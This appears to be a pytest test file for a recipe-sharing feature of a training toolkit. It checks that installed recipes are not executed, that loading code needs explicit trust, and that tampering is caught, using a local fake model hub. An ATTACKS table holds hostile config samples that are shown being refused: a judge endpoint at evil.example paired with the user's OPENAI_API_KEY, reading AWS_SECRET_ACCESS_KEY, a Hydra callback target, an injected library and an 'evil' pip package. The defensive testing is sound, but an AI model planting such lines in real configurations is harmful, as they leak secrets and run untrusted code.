# SPDX-License-Identifier: Apache-2.0
"""Recipes are published and installed: from a folder, a git repository and the hub's own client, against a hub on this
machine. Nothing of them is executed, what they would load, send or read is accepted by name, and a change is seen.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from helpers.places import PACKAGE
from medix_verl.errors import ConfigError, DataError
from medix_verl.recipe.compose import compose_recipes
from medix_verl.recipe.facts import describe
from medix_verl.recipe.index import recipe_heads
from medix_verl.recipe.share.install import install
from medix_verl.recipe.share.installed import RECORD, changed, read_installed
from medix_verl.recipe.share.publish import publish
from medix_verl.recipe.validate import check

pytestmark = pytest.mark.timeout(600)
HEAD = """# @package _global_
#
# Ours.
#
# requires: verl>=0.9.0,<0.10; medix-verl>=0.1
"""
RECIPE = (
    HEAD
    + """# files: judge.txt, terms.py

defaults:
  - /recipe/medix_cpu
  - _self_

trainer: {experiment_name: ours}
reward:
  medix:
    judge: {prompt: "${medix.beside:lab/judge.txt}"}
    terms: {lab_brevity: {path: "${medix.beside:lab/terms.py}", name: Brevity, weight: 0.1}}
"""
)
CODE = """import pathlib
pathlib.Path({trace!r}).touch()


class Brevity:
    name = "lab_brevity"

    async def score(self, answer):
        return 1.0
"""
JUDGE = PACKAGE / "judge" / "prompts" / "reference.txt"


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own folder of installed recipes."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("MEDIX_RECIPES", raising=False)
    return tmp_path / "home" / "medix-verl" / "recipe"


@pytest.fixture
def lab(tmp_path: Path) -> Path:
    """A folder with the recipe `lab/ours`, its prompt and its code, which leaves a trace when it is run."""
    place = tmp_path / "lab" / "recipe" / "lab"
    place.mkdir(parents=True)
    (place / "ours.yaml").write_text(RECIPE)
    (place / "judge.txt").write_bytes(JUDGE.read_bytes())
    (place / "terms.py").write_text(CODE.format(trace=str(tmp_path / "trace")))
    (tmp_path / "lab" / "README.md").write_text("# Lab\n")
    (tmp_path / "lab" / "notes.ipynb").write_text("{}")
    return tmp_path / "lab"


def test_a_folder_is_published_installed_and_guarded(lab: Path, store: Path, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    done = publish(lab, str(tmp_path / "clone"))
    assert list(done.bundle.heads) == ["lab/ours"] and done.bundle.left_out == ("notes.ipynb",)
    assert "reward.medix.terms.lab_brevity.path=lab/terms.py" in done.listed and "code=lab/terms.py" in done.listed
    with pytest.raises(
        ConfigError, match=r"would load code, .*code=lab/terms.py; read .*, then add --trust lab/terms.py$"
    ):
        install(str(tmp_path / "clone"))
    assert not (store / "lab").exists() and "lab/ours" not in recipe_heads()
    got = install(str(tmp_path / "clone"), ["lab/terms.py"])
    assert got.folder == store / "lab" and "lab/ours" in recipe_heads()
    assert not trace.exists()
    # What was accepted needs no --trust again, and is then loaded.
    assert check("lab/ours") == [] and trace.exists()
    trace.unlink()
    with pytest.raises(ConfigError, match="lab is installed already; type --replace, or rm -r"):
        install(str(tmp_path / "clone"), ["lab/terms.py"])
    # A change of the code is refused by every check, and loads nothing.
    (store / "lab" / "terms.py").write_text(CODE.format(trace=str(trace)) + "# changed\n")
    found = check("lab/ours")
    assert any(
        "lab/terms.py has been changed since it was installed; type medix-verl recipe install" in one for one in found
    )
    assert any("it would load code" in one and one.endswith("--trust lab/terms.py") for one in found)
    facts = describe(compose_recipes(["lab/ours"]), names=["lab/ours"])
    assert any("has been changed" in fault for fault in facts["faults"]) and not trace.exists()
    (store / "lab" / "more.py").write_text("1")
    assert any("lab/more.py was not installed with it" in line for line in changed(["lab/ours"]))
    install(str(tmp_path / "clone"), ["lab/terms.py"], replace=True)
    assert changed(["lab/ours"]) == [] and sorted(path.name for path in store.iterdir()) == ["lab"]


def test_every_command_that_only_looks_runs_nothing(lab: Path, store: Path, tmp_path: Path) -> None:
    """Each as its own process: install, list, show, check and doctor."""
    for words in (
        ["recipe", "install", str(lab)],
        ["recipe", "install", str(lab), "--trust", "lab/terms.py"],
        ["recipe", "list"],
        ["recipe", "show", "lab/ours"],
    ):
        done = medix(*words)
        assert done.returncode == (1 if words == ["recipe", "install", str(lab)] else 0), done.stderr
    (store / "lab" / RECORD).unlink()  # as if the user had copied the folder
    for words in (["recipe", "check", "lab/ours"], ["doctor", "--recipe", "lab/ours"]):
        done = medix(*words)
        assert done.returncode == 1 and "read it, then type --trust lab/terms.py" in done.stdout
    assert not (tmp_path / "trace").exists()


def medix(*words: str, **variables: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "medix_verl", *words]
    return subprocess.run(
        command, capture_output=True, text=True, timeout=280, check=False, env={**os.environ, **variables}
    )


def test_a_git_repository_at_a_revision(lab: Path, store: Path) -> None:
    for words in (
        ["init", "-q", "-b", "main"],
        ["add", "-A"],
        ["-c", "user.name=lab", "-c", "user.email=lab@example.org", "commit", "-q", "-m", "x"],
        ["tag", "v1"],
        ["rm", "-rq", "recipe"],
        ["-c", "user.name=lab", "-c", "user.email=lab@example.org", "commit", "-q", "-m", "x"],
    ):
        subprocess.run(["git", *words], cwd=lab, check=True)
    with pytest.raises(DataError, match="there is no recipe/NAMESPACE/NAME.yaml"):
        install(f"git+file://{lab}")
    got = install(f"git+file://{lab}@v1", ["lab/terms.py"])
    assert "lab/ours" in recipe_heads()
    record = read_installed(got.folder)
    assert record is not None and record.source == f"file://{lab}" and len(record.commit) == 40


ATTACKS = {
    "rows to another machine, with a key of ours": (
        "reward: {medix: {judge: {kind: openai, url: 'https://evil.example/v1', api_key_env: OPENAI_API_KEY}}}",
        ["reward.medix.judge.url=https://evil.example/v1", "reward.medix.judge.api_key_env=OPENAI_API_KEY"],
    ),
    "an address put together": (
        "medix: {where: evil.example}\nreward: {medix: {judge: {url: 'http://${medix.where}/v1'}}}",
        ["reward.medix.judge.url=http://evil.example/v1"],
    ),
    "a variable of the machine": (
        "trainer: {experiment_name: '${oc.env:AWS_SECRET_ACCESS_KEY,none}'}",
        ["trainer.experiment_name=${oc.env:AWS_SECRET_ACCESS_KEY,none}"],
    ),
    "a class that Hydra would call": (
        "hydra: {callbacks: {x: {_target_: os.mkdir}}}",
        ["hydra.callbacks.x._target_=os.mkdir"],
    ),
    "a library that verl imports": (
        "actor_rollout_ref: {model: {external_lib: evil_module}}",
        ["actor_rollout_ref.model.external_lib=evil_module"],
    ),
    "packages that Ray installs": (
        "ray_kwargs: {ray_init: {runtime_env: {pip: [evil]}}}",
        ["ray_kwargs.ray_init.runtime_env.pip="],
    ),
}


@pytest.mark.parametrize(("lines", "listed"), ATTACKS.values(), ids=ATTACKS)
def test_what_a_recipe_would_do_is_listed_and_refused(lines: str, listed: list[str], lab: Path, store: Path) -> None:
    text = f"{HEAD}\ndefaults: [/recipe/medix_cpu, _self_]\n{lines}\n"
    (lab / "recipe" / "lab" / "ours.yaml").write_text(text)
    with pytest.raises(ConfigError) as caught:
        install(str(lab), ["lab/terms.py", "medix", "True", "evil"])
    assert all(line in str(caught.value) for line in listed), str(caught.value)
    assert not store.exists()


def test_places_that_are_taken(lab: Path, store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "mine" / "recipe" / "lab").mkdir(parents=True)
    monkeypatch.setenv("MEDIX_RECIPES", str(tmp_path / "mine"))
    with pytest.raises(ConfigError, match="the namespace lab is taken by file://"):
        install(str(lab))
    with pytest.raises(ConfigError, match=r"mine/recipe/lab is there, and was not installed; move it away"):
        install(str(lab), into=tmp_path / "mine", replace=True)
    monkeypatch.delenv("MEDIX_RECIPES")
    store.mkdir(parents=True)
    (store / "lab").symlink_to(tmp_path / "mine" / "recipe" / "lab")
    with pytest.raises(ConfigError, match="move it away"):
        install(str(lab), replace=True)


def test_what_cannot_be_published(lab: Path, tmp_path: Path) -> None:
    recipe = lab / "recipe" / "lab" / "ours.yaml"
    target = tmp_path / "target"
    target.mkdir()
    for text, message in (
        (RECIPE.replace("experiment_name: ours", "default_local_dir: /home/lab/runs"), "names a place of one machine"),
        (
            RECIPE.replace("experiment_name: ours", f"note: sk-{'x' * 20}"),
            "holds what looks like a secret",
        ),
        (RECIPE.replace("# requires", "# needs"), "states no range"),
        (RECIPE.replace("medix-verl>=0.1", "medix-verl>=99"), "recipe 'lab/ours' requires medix-verl>=99"),
        (RECIPE.replace("/recipe/medix_cpu", "/recipe/medix_cqu"), "does not compose"),
        (
            f"{HEAD}\ndefaults: [/recipe/medix_cpu, _self_]\ndata: {{train_batch_size: 7}}\n",
            "type medix-verl recipe check",
        ),
    ):
        recipe.write_text(text)
        with pytest.raises((ConfigError, DataError), match=message):
            publish(lab, str(target))
        assert list(target.iterdir()) == []
    recipe.write_text(RECIPE)
    with pytest.raises(ConfigError, match="neither a folder nor a hub id; type ./target, or OWNER/NAME"):
        publish(lab, "target")
    with pytest.raises(ConfigError, match="--to is the folder that is published"):
        publish(lab, str(lab))
    (target / "recipe").symlink_to(lab / "recipe")
    with pytest.raises(DataError, match="is a link; publish into a folder"):
        publish(lab, str(target))


class Hub(BaseHTTPRequestHandler):
    """The few calls that huggingface_hub makes to keep a repository and to give it back."""

    commits: dict[str, dict[str, bytes]]
    asked: list[str]
    token: str

    def log_message(self, *words: Any) -> None:
        """Say nothing."""

    def say(self, status: int, body: bytes = b"{}", **headers: str) -> None:
        self.send_response(status)
        for name, value in {"Content-Length": str(len(body)), **headers}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_POST(self) -> None:
        path = urlsplit(self.path).path
        self.asked.append(f"POST {path}")
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.headers.get("Authorization") != f"Bearer {self.token}":
            self.say(401)
        elif path == "/api/repos/create":
            self.say(
                200, json.dumps({"url": f"http://{self.headers['Host']}/lab/recipes", "name": "lab/recipes"}).encode()
            )
        elif "/preupload/" in path:
            files = [{**file, "uploadMode": "regular", "shouldIgnore": False} for file in json.loads(body)["files"]]
            self.say(200, json.dumps({"files": files}).encode())
        elif "/commit/" in path:
            lines = [json.loads(line) for line in body.decode().splitlines()]
            added = {
                one["value"]["path"]: base64.b64decode(one["value"]["content"]) for one in lines if one["key"] == "file"
            }
            name = hashlib.sha1(body).hexdigest()
            self.commits[name] = {**self.newest(), **added}
            done = {
                "commitUrl": f"http://{self.headers['Host']}/lab/recipes/commit/{name}",
                "commitOid": name,
                "success": True,
            }
            self.say(200, json.dumps(done).encode())
        else:
            self.say(200, b'{"exist": false}' if path.endswith("validate-yaml") else b"{}")

    def newest(self) -> dict[str, bytes]:
        return list(self.commits.values())[-1] if self.commits else {}

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        path = unquote(urlsplit(self.path).path)
        self.asked.append(f"{self.command} {path}")
        wanted = path.rpartition("/revision/")[2] if "/revision/" in path else next(reversed(self.commits), "")
        if path.startswith("/api/models/lab/recipes") and wanted in self.commits:
            files = [{"rfilename": name, "size": len(data)} for name, data in self.commits[wanted].items()]
            self.say(200, json.dumps({"id": "lab/recipes", "sha": wanted, "siblings": files, "tags": []}).encode())
            return
        place, _, name = path.partition("/resolve/")[2].partition("/")
        if place in self.commits and name in self.commits[place]:
            data = self.commits[place][name]
            self.say(200, data, ETag=f'"{hashlib.sha1(data).hexdigest()}"', X_Repo_Commit=place)
            return
        self.say(404, X_Error_Code="RevisionNotFound" if "/revision/" in path else "RepoNotFound")


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[dict[str, str]]:
    """The environment of a process that takes this machine for the hub."""
    Hub.commits, Hub.asked, Hub.token = {}, [], "hf_" + "x" * 20
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_address[1]}"
    yield {"HF_ENDPOINT": address, "HF_HOME": str(tmp_path / "hf"), "HF_HUB_DISABLE_XET": "1", "HF_TOKEN": Hub.token}
    server.shutdown()
    server.server_close()


def test_the_hub_keeps_recipes_and_gives_them_back(lab: Path, store: Path, hub: dict[str, str]) -> None:
    done = medix("recipe", "publish", str(lab), "--to", "lab/recipes", **{**hub, "HF_TOKEN": "hf_" + "y" * 20})
    assert done.returncode == 1 and "the hub does not let you write to lab/recipes; type hf auth login" in done.stderr
    done = medix("recipe", "publish", str(lab), "--to", "lab/recipes", **hub)
    assert done.returncode == 0, done.stderr
    (first,) = Hub.commits
    assert set(Hub.commits[first]) == {
        "README.md",
        *(f"recipe/lab/{n}" for n in ("judge.txt", "ours.yaml", "terms.py")),
    }
    assert f"published to lab/recipes@{first}" in done.stdout
    # Somebody adds what is not taken, and a later version.
    later = {**Hub.commits[first], "weights.safetensors": b"0" * 5_000_000, "recipe/lab/model.pkl": b"\x80\x04."}
    Hub.commits["f" * 40] = {**later, "recipe/lab/ours.yaml": RECIPE.replace("ours}", "later}").encode()}
    Hub.asked.clear()
    done = medix("recipe", "install", "lab/recipes", "--trust", "lab/terms.py", **hub)
    assert done.returncode == 0, done.stderr
    assert "later" in (store / "lab" / "ours.yaml").read_text() and "left out: recipe/lab/model.pkl" in done.stdout
    assert not any("weights" in line or "model.pkl" in line for line in Hub.asked)
    done = medix("recipe", "install", f"lab/recipes@{first}", "--trust", "lab/terms.py", "--replace", **hub)
    assert done.returncode == 0, done.stderr
    assert (store / "lab" / "ours.yaml").read_text() == RECIPE
    done = medix("recipe", "install", "lab/recipes@no-such", **hub)
    assert done.returncode == 1 and "lab/recipes has no revision 'no-such'" in done.stderr
    Hub.commits["e" * 40] = {"recipe/lab/ours.yaml": b"#" * 2_000_000}
    done = medix("recipe", "install", f"lab/recipes@{'e' * 40}", "--replace", **hub)
    assert done.returncode == 1 and "a file of a recipe has 1048576 at most" in done.stderr
    done = medix("recipe", "install", "nobody/nothing", **{**hub, "HF_ENDPOINT": "http://127.0.0.1:9"})
    assert done.returncode == 1 and "the hub cannot be asked for nobody/nothing" in done.stderr
